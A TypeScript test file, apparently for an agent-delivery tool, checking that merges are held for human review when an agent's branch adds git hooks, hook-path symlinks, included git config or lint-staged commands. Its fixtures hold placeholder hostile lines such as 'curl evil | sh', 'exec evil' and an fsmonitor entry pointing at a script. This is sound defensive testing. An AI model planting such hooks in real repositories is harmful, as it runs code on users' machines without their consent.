/**
 * `merge`/`squash` delivery never puts an agent's hook into the user's branch unattended:
 * a branch that adds a husky hook, a file under the user's own `core.hooksPath`, a config
 * file the user's config includes, or a symlink put in place of a directory on the way to
 * the hooks, is kept for a person to read; the base, the checkout and the issue stay as
 * they were. A branch whose only "hooks" file is outside any hooks path merges as usual.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFile, symlink } from 'node:fs/promises';
import { join } from 'node:path';
import { createLocalIssueStore } from '../../../src/activities/issues/local-issue-store.js';
import { runLocalBoundaryHook } from '../../../src/activities/deliver/local-boundary-hook.js';
import { assertCheckoutIntact, deps, exists, localFixture, type LocalFixture } from './local-delivery-fixture.js';

async function commitOnBranch(fixture: LocalFixture, files: Record<string, string>): Promise<void> {
  const { repo, input } = fixture;
  await repo.write(Object.fromEntries(Object.entries(files).map(([f, text]) => [`.worktrees/issue-5/${f}`, text])));
  await repo.git('-C', input.worktreePath, 'add', '-A');
  await repo.git('-C', input.worktreePath, 'commit', '-qm', 'the agent adds a hook');
}

const escaped = (text: string): string => text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');

async function assertNotDelivered(fixture: LocalFixture, hook: string, file = hook): Promise<void> {
  const { repo, input, mainBefore } = fixture;
  const report = await runLocalBoundaryHook(deps, input);
  assert.equal(report.effects[0]?.status, 'skipped', JSON.stringify(report, null, 2));
  assert.match(
    report.effects[0]?.detail ?? '',
    new RegExp(`runs by itself as hooks \\(${escaped(hook)}\\).*main is unchanged`),
  );
  assert.match(report.pending[0] ?? '', new RegExp(`read ${escaped(hook)} on agent/issue-5, then in .*git merge`));
  assert.equal(await repo.git('rev-parse', 'main'), mainBefore, 'main did not move');
  assert.equal(await exists(join(repo.dir, file)), false, 'the hook is not in the checkout');
  assert.equal(await exists(input.worktreePath), true, 'the worktree is kept');
  assert.equal((await createLocalIssueStore(repo.dir).read(5)).state, 'open', 'the issue stays open');
  await assertCheckoutIntact(repo);
}

test('merge: a branch adding a husky hook is kept for a person, main and the issue untouched', async () => {
  const fixture = await localFixture({ delivery: 'merge' });
  try {
    await commitOnBranch(fixture, { '.husky/pre-commit': 'curl evil | sh\n' });
    await assertNotDelivered(fixture, '.husky/pre-commit');
  } finally {
    await fixture.repo.cleanup();
  }
});

test('merge: a symlink committed in place of a directory on the way to the hooks is a hook change too', async () => {
  const fixture = await localFixture({ delivery: 'merge' });
  try {
    await fixture.repo.git('config', 'core.hooksPath', 'tools/hooks');
    await commitOnBranch(fixture, { 'evil/hooks/pre-commit': 'exec evil\n' });
    await symlink('evil', join(fixture.input.worktreePath, 'tools'));
    await commitOnBranch(fixture, {});
    await assertNotDelivered(fixture, 'tools');
  } finally {
    await fixture.repo.cleanup();
  }
});

test("merge: a config file the user's git config includes from the tree is a hook change too", async () => {
  const fixture = await localFixture({ delivery: 'merge' });
  try {
    await fixture.repo.git('config', 'include.path', '../tools/git.cfg');
    await commitOnBranch(fixture, { 'tools/git.cfg': '[core]\n\tfsmonitor = ./evil.sh\n' });
    await assertNotDelivered(fixture, 'tools/git.cfg');
  } finally {
    await fixture.repo.cleanup();
  }
});

test('package.json: a change to the lint-staged a commit hook runs is kept; one to its scripts merges', async () => {
  const hooked = await localFixture({ delivery: 'merge' });
  try {
    const manifest = { name: 'app', 'lint-staged': { '*.js': 'node -e "require(`child_process`).execSync(`evil`)"' } };
    await commitOnBranch(hooked, { 'package.json': JSON.stringify(manifest) });
    await assertNotDelivered(hooked, 'package.json ("lint-staged")', 'package.json');
  } finally {
    await hooked.repo.cleanup();
  }
  const plain = await localFixture({ delivery: 'squash' });
  try {
    await commitOnBranch(plain, { 'package.json': JSON.stringify({ name: 'app', scripts: { test: 'node t.js' } }) });
    const report = await runLocalBoundaryHook(deps, plain.input);
    assert.equal(report.status, 'success', JSON.stringify(report, null, 2));
  } finally {
    await plain.repo.cleanup();
  }
});

test("squash: a file under the user's core.hooksPath is a hook too; outside that path it merges", async () => {
  const fixture = await localFixture({ delivery: 'squash' });
  try {
    await commitOnBranch(fixture, { 'tools/hooks/post-checkout': 'exec evil\n' });
    await fixture.repo.git('config', 'core.hooksPath', './tools/hooks');
    await assertNotDelivered(fixture, 'tools/hooks/post-checkout');

    await fixture.repo.git('config', '--unset', 'core.hooksPath');
    const report = await runLocalBoundaryHook(deps, fixture.input);
    assert.equal(report.status, 'success', JSON.stringify(report, null, 2));
    assert.equal(await readFile(join(fixture.repo.dir, 'tools/hooks/post-checkout'), 'utf8'), 'exec evil\n');
  } finally {
    await fixture.repo.cleanup();
  }
});
